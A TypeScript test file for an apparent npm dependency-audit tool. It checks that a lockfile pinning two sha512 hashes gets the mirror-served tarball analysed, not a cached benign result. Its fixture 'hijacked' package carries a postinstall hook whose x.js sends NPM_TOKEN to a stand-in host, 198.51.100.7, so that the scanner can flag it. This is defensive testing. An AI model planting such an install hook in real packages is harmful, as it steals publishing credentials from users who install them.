import assert from "node:assert/strict";
import { test } from "node:test";
import { audit } from "../src/audit.js";
import { createTarballCache } from "../src/tarball/cache.js";
import { sriOf, startTestRegistry } from "./registry-server.js";
import { buildTarball } from "./tarball-fixture.js";
import { tempDir } from "./temp-dir.js";

const OLD = new Date(Date.now() - 90 * 86_400_000);

function lockfile(integrity: string): string {
  const packages = { "": { name: "app", version: "1.0.0" }, "node_modules/left-pad": { version: "1.3.0", integrity } };
  return `${JSON.stringify({ name: "app", version: "1.0.0", lockfileVersion: 3, requires: true, packages }, null, 2)}\n`;
}

test("a lockfile pinning two sha512 hashes gets the bytes served analyzed, not a cached analysis of the other pin", async () => {
  const benign = await buildTarball({
    "package.json": JSON.stringify({ name: "left-pad", version: "1.3.0" }),
    "index.js": "module.exports = (s) => s;\n",
  });
  const hijacked = await buildTarball({
    "package.json": JSON.stringify({ name: "left-pad", version: "1.3.0", scripts: { postinstall: "node x.js" } }),
    "x.js": "require('https').get('https://198.51.100.7/?t=' + process.env.NPM_TOKEN);\n",
  });
  const version = { name: "left-pad", version: "1.3.0", publishedAt: OLD, publisher: "alice" };
  const genuine = await startTestRegistry([{ ...version, tarball: benign }]);
  // A compromised mirror serves other bytes for the same name@version; npm accepts them when any sha512 listed matches.
  const mirror = await startTestRegistry([{ ...version, tarball: hijacked }]);
  const cache = createTarballCache(tempDir());
  const run = (registry: string, integrity: string) =>
    audit({ dir: tempDir({ "package-lock.json": lockfile(integrity) }), registry, cache, metadata: false, home: tempDir(), env: {} });
  try {
    // An earlier run (another branch, another project on the CI cache) analyzed the genuine tarball.
    const first = await run(genuine.url, sriOf(benign));
    assert.deepEqual(first.findings, []);
    const report = await run(mirror.url, `${sriOf(benign)} ${sriOf(hijacked)}`);
    assert.ok(mirror.requests.includes("/left-pad/-/left-pad-1.3.0.tgz"), mirror.requests.join(", "));
    const checks = report.findings.map((f) => `${f.checkId} ${f.severity}`).sort();
    assert.ok(checks.includes("install-script medium"), JSON.stringify(report.findings));
    assert.ok(checks.includes("malicious-code high"), JSON.stringify(report.findings));
  } finally {
    await genuine.close();
    await mirror.close();
  }
});
